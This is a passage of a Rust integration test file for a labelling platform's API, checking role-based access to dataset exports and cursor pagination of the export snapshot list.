                    ("format", "jsonl"),
                    ("drift_threshold", "0.5"),
                    ("reviewers_can_export", "on"),
                ],
            )
            .await;
        assert_eq!(res.status(), 404, "POST {path}");
    }
    assert_eq!(
        app.count("SELECT COUNT(*) FROM exports").await,
        before,
        "nothing was made"
    );
    assert_eq!(
        app.count("SELECT COUNT(*) FROM task_export_settings WHERE reviewers_can_export = 1")
            .await,
        0
    );

    // Once the task allows it, the reviewer may list, make and download, but not change settings.
    let res = admin
        .send_json(
            Method::PATCH,
            &format!("/api/v1/tasks/{task}/export-settings"),
            &json!({"reviewers_can_export": true}),
        )
        .await;
    assert_eq!(
        res.json::<Value>().await.unwrap()["reviewers_can_export"],
        true
    );
    assert_eq!(
        reviewer
            .get(&format!("/api/v1/tasks/{task}/exports"))
            .await
            .status(),
        200
    );
    assert_eq!(
        reviewer
            .get(&format!("/api/v1/exports/{id}/download"))
            .await
            .status(),
        200
    );
    let res = reviewer
        .post_json(
            &format!("/api/v1/tasks/{task}/exports"),
            &json!({"format": "csv"}),
        )
        .await;
    assert_eq!(res.status(), 201);
    assert_eq!(
        reviewer
            .get(&format!("/api/v1/tasks/{task}/export-settings"))
            .await
            .status(),
        404
    );
    // Raters still get nothing.
    for (method, path) in &api_routes {
        let res = rater
            .send_json(method.clone(), path, &json!({"format": "jsonl"}))
            .await;
        assert_eq!(res.status(), 404, "{method} {path}");
    }
    // Without credentials: 401, as everywhere in the API.
    assert_eq!(
        anonymous_status(&app, &format!("/api/v1/exports/{id}/download")).await,
        401
    );
}

#[tokio::test]
async fn the_snapshot_list_pages_newest_first_with_a_cursor() {
    let app = TestApp::spawn().await;
    let admin = app.bearer(&app.token("admin").await);
    let res = admin
        .post_json(
            "/api/v1/tasks",
            &json!({"name": "Pages", "schema": {"kind": "free_text"}, "state": "active"}),
        )
        .await;
    let task = res.json::<Value>().await.unwrap()["id"].as_i64().unwrap();
    let mut made = Vec::new();
    for _ in 0..5 {
        made.push(
            export(&admin, task, json!({"format": "jsonl"})).await["id"]
                .as_i64()
                .unwrap(),
        );
    }
    made.reverse();
    let url = format!("/api/v1/tasks/{task}/exports");
    let (mut seen, mut cursor, mut pages) = (Vec::new(), None::<String>, 0);
    loop {
        let page_url = match &cursor {
            Some(c) => format!("{url}?limit=2&cursor={c}"),
            None => format!("{url}?limit=2"),
        };
        let page: Value = admin.get(&page_url).await.json().await.unwrap();
        pages += 1;
        let rows = page["exports"].as_array().unwrap();
        assert!(rows.len() <= 2);
        assert!(
            rows.iter().all(|e| e.get("card").is_none()),
            "lists carry no cards"
        );
        seen.extend(rows.iter().map(|e| e["id"].as_i64().unwrap()));
        match page["next_cursor"].as_str() {
            Some(c) => cursor = Some(c.to_string()),
            None => break,
        }
    }
    assert_eq!(seen, made, "every snapshot once, newest first");
    assert_eq!(pages, 3);
    // Without a limit the whole (short) list comes at once, with no next page.
    let all: Value = admin.get(&url).await.json().await.unwrap();
    assert_eq!(all["exports"].as_array().unwrap().len(), 5);
    assert!(all["next_cursor"].is_null());
    let res = admin.get(&format!("{url}?cursor=nonsense")).await;
    assert_eq!(res.status(), 400);
    assert_eq!(
        res.json::<Value>().await.unwrap()["error"]["code"],
        "invalid_cursor"
    );
    assert_eq!(admin.get(&format!("{url}?limit=0")).await.status(), 400);
}
